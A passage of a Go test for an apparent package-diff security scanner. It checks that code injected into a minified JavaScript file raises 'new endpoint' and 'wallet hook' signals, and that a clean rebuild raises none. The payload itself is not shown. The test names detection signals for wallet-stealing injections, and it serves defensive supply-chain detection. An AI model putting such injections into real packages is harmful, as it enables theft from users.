	in := Input{Old: pkg(map[string]string{"m.min.js": old}), New: pkg(map[string]string{"m.min.js": injected})}
	d, err := diff.Compare(stdctx.Background(), in.Old, in.New, diff.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Files) != 1 || !d.Files[0].TokenDiff {
		t.Fatalf("want one token-diffed file, got %+v", d.Files)
	}
	in.Diff = d
	c := newContext(in)
	contentSignals(c)
	sigs := c.finish()
	for _, id := range []string{NewEndpoint, WalletHook} {
		if s := ctFind(sigs, id, "m.min.js"); s == nil || s.Line != 1 {
			t.Errorf("%s on the minified line: %+v", id, s)
		}
	}
	// The same file rebuilt with nothing new raises nothing.
	c = newContext(Input{Old: in.New, New: pkg(map[string]string{"m.min.js": injected + "var z=1;"})})
	c.in.Diff, _ = diff.Compare(stdctx.Background(), c.in.Old, c.in.New, diff.Options{})
	contentSignals(c)
	if len(c.signals) != 0 {
		t.Errorf("rebuild with nothing new: %+v", c.signals)
	}
}
